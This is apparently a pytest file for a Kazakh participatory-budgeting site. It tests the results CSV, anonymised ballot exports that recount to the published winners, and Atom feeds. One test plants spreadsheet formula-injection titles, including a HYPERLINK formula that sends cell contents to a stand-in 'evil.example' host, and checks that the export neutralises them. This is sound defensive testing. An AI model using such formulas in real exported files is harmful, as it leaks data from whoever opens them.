"""Open data: results.csv, anonymised ballots.pb that recount to the published winners, Atom."""
import csv
import io
import subprocess
import sys
from xml.etree import ElementTree as ET

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Ballot, ProposalResult
from tests.helpers import ROOT, conclude_all, publish

ATOM = "{http://www.w3.org/2005/Atom}"


def test_results_csv(client, published_cycle):
    ids = published_cycle()
    response = client.get(f"/cycles/{ids['cycle']}/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbfproposal_id,")  # UTF-8 BOM: Excel reads Cyrillic right
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [int(r["proposal_id"]) for r in rows] == [ids["proposals"][k] for k in "ABCD"]
    by_id = {int(r["proposal_id"]): r for r in rows}
    a, d = by_id[ids["proposals"]["A"]], by_id[ids["proposals"]["D"]]
    assert (a["votes"], a["eligible"], a["selected"], a["decision"], a["cost"]) == \
        ("25", "true", "true", "approved", "8000000")
    assert (d["votes"], d["eligible"], d["selected"], d["decision"]) == ("9", "false", "false", "not_approved")
    assert d["justification_ru"] == "Менее десяти проголосовавших." and a["title"] == "Сквер на Абая"
    assert client.get(f"/api/v1/cycles/{ids['cycle']}/results.csv").data == response.data


def test_results_csv_neutralises_formulas_and_keeps_numbers_and_digest(app, client, counted_cycle,
                                                                       staff):
    from app.domain.open_data import digest_of_payload, digest_payload_from_json
    from app.models import Cycle, Proposal

    ids = counted_cycle()
    hostile = {"A": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "B": "+1+2",
               "C": "@SUM(1,1)", "D": "-2+3"}
    with app.app_context():
        for key, title in hostile.items():
            db.session.get(Proposal, ids["proposals"][key]).title = title
        db.session.commit()
    conclude_all(app, ids, staff[0])
    publish(app, ids, staff[0])
    with app.app_context():
        digest = db.session.get(Cycle, ids["cycle"]).results_digest
    rows = list(csv.DictReader(io.StringIO(client.get(f"/cycles/{ids['cycle']}/results.csv")
                                           .data.decode("utf-8-sig"))))
    by_id = {int(r["proposal_id"]): r for r in rows}
    for key, title in hostile.items():
        row = by_id[ids["proposals"][key]]
        assert row["title"] == "'" + title
        assert row["cost"].isdigit() and row["votes"].isdigit()  # numbers stay numbers
    # The digest is of the JSON results, whose texts are unchanged: it still verifies.
    document = client.get(f"/api/v1/cycles/{ids['cycle']}/results").get_json()
    assert {p["title"] for p in document["proposals"]} == set(hostile.values())
    assert digest_of_payload(digest_payload_from_json(document)) == digest


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Сквер", "Сквер"), ("", ""),
    (-5, -5), (8000000, 8000000), ("a=b", "a=b")])
def test_neutralise_cell(value, expected):
    from app.domain.open_data import neutralise_cell

    assert neutralise_cell(value) == expected


def test_ballots_pb_is_anonymous(app, client, published_cycle):
    ids = published_cycle()
    text = client.get(f"/cycles/{ids['cycle']}/ballots.pb").get_data(as_text=True)
    with app.app_context():
        ballots = db.session.scalars(select(Ballot).where(Ballot.cycle_id == ids["cycle"])).all()
        secrets_ = [b.receipt for b in ballots] + [b.voter.iin_hmac for b in ballots]
        in_cast_order = [",".join(str(i.proposal_id) for i in b.items)
                         for b in sorted(ballots, key=lambda b: b.id)]
        names = [b.voter.full_name for b in ballots]
    assert not any(s in text for s in secrets_) and not any(n in text for n in names)
    votes = text.split("VOTES\n", 1)[1].splitlines()[1:]
    listed = [line.split(";")[0] for line in votes]
    assert sorted(int(v) for v in listed) == list(range(1, 26))
    # Voter ids are 1..n in a keyed-hash order, not the order ballots (and accounts) were made.
    in_file_order = [line.split(";")[1] for line in votes]
    assert sorted(in_file_order) == sorted(in_cast_order) and in_file_order != in_cast_order
    assert "country;Kazakhstan" in text and "currency;KZT" in text and "vote_type;approval" in text
    assert "min_project_score_threshold;10" in text and "rule;greedy" in text


def test_ballots_pb_recounts_to_the_published_winners(app, client, published_cycle, tmp_path):
    from app.tally import count, parse

    ids = published_cycle()
    text = client.get(f"/cycles/{ids['cycle']}/ballots.pb").get_data(as_text=True)
    assert client.get(f"/api/v1/cycles/{ids['cycle']}/ballots.pb").get_data(as_text=True) == text
    with app.app_context():
        stored = {str(r.proposal_id) for r in db.session.scalars(
            select(ProposalResult).where(ProposalResult.cycle_id == ids["cycle"], ProposalResult.selected))}
        votes = {str(r.proposal_id): r.votes for r in db.session.scalars(
            select(ProposalResult).where(ProposalResult.cycle_id == ids["cycle"]))}
    election = parse(text)
    result = count(election, "greedy", threshold=10)
    assert set(result.winners) == stored == {str(ids["proposals"]["A"]), str(ids["proposals"]["B"])}
    assert {pid: figures.votes for pid, figures in result.projects.items()} == votes
    # And from the command line, exactly as the page tells a journalist to.
    path = tmp_path / "ballots.pb"
    path.write_text(text, encoding="utf-8")
    run = subprocess.run([sys.executable, "-m", "app.tally", str(path), "--rule", "greedy",
                          "--threshold", "10"], cwd=ROOT, capture_output=True, text=True, check=True)
    assert {line.split("\t")[0] for line in run.stdout.splitlines()} == stored


def test_ballots_pb_reads_in_pabutools(client, published_cycle, tmp_path):
    pabutools = pytest.importorskip("pabutools.election")
    ids = published_cycle()
    path = tmp_path / "ballots.pb"
    path.write_bytes(client.get(f"/cycles/{ids['cycle']}/ballots.pb").data)
    instance, profile = pabutools.parse_pabulib(str(path))
    assert len(instance) == 4 and len(profile) == 25
    assert instance.budget_limit == 20_000_000


def test_open_data_hidden_before_publication(client, counted_cycle):
    ids = counted_cycle()
    for path in (f"/cycles/{ids['cycle']}/results.csv", f"/cycles/{ids['cycle']}/ballots.pb",
                 f"/api/v1/cycles/{ids['cycle']}/results.csv", f"/api/v1/cycles/{ids['cycle']}/ballots.pb"):
        assert client.get(path).status_code == 403, path
    assert client.get("/cycles/9999/results.csv").status_code == 404


def test_atom_feeds_overall_and_per_territory(client, published_cycle, admin):
    almaty = published_cycle()
    district = published_cycle(territory="751410000", title_en="Bostandyk PB")
    published_cycle(territory="710000000", title_en="Astana PB", publisher=admin[0])
    overall = client.get("/feed.atom?lang=en")
    assert overall.status_code == 200 and overall.mimetype == "application/atom+xml"
    root = ET.fromstring(overall.data)
    assert root.tag == f"{ATOM}feed"
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) == 3
    for entry in entries:
        assert entry.find(f"{ATOM}id").text and entry.find(f"{ATOM}updated").text
        assert entry.find(f"{ATOM}link[@rel='alternate']").get("href").startswith("http://localhost/en/cycles/")
    city = ET.fromstring(client.get("/territories/750000000/feed.atom?lang=en").data)
    links = {e.find(f"{ATOM}link[@rel='alternate']").get("href") for e in city.findall(f"{ATOM}entry")}
    assert links == {f"http://localhost/en/cycles/{almaty['cycle']}/results",
                     f"http://localhost/en/cycles/{district['cycle']}/results"}
    assert ET.fromstring(client.get("/api/v1/territories/710000000/feed.atom").data) \
        .find(f"{ATOM}entry/{ATOM}title").text.endswith("Астана қ., 2026")  # kk by default
    assert client.get("/territories/000000000/feed.atom").status_code == 404
    assert ET.fromstring(client.get("/api/v1/feed.atom").data).tag == f"{ATOM}feed"


def test_ballots_pb_names_the_mes_rule(client, app, counted_cycle, staff):
    ids = counted_cycle(rule="mes")
    conclude_all(app, ids, staff[0])
    publish(app, ids, staff[0])
    text = client.get(f"/cycles/{ids['cycle']}/ballots.pb").get_data(as_text=True)
    assert "rule;equalshares/add1" in text and "--rule mes --threshold 10" in text
    page = client.get(f"/en/cycles/{ids['cycle']}/results/check").get_data(as_text=True)
    assert "python -m app.tally ballots.pb --rule mes --threshold 10" in page
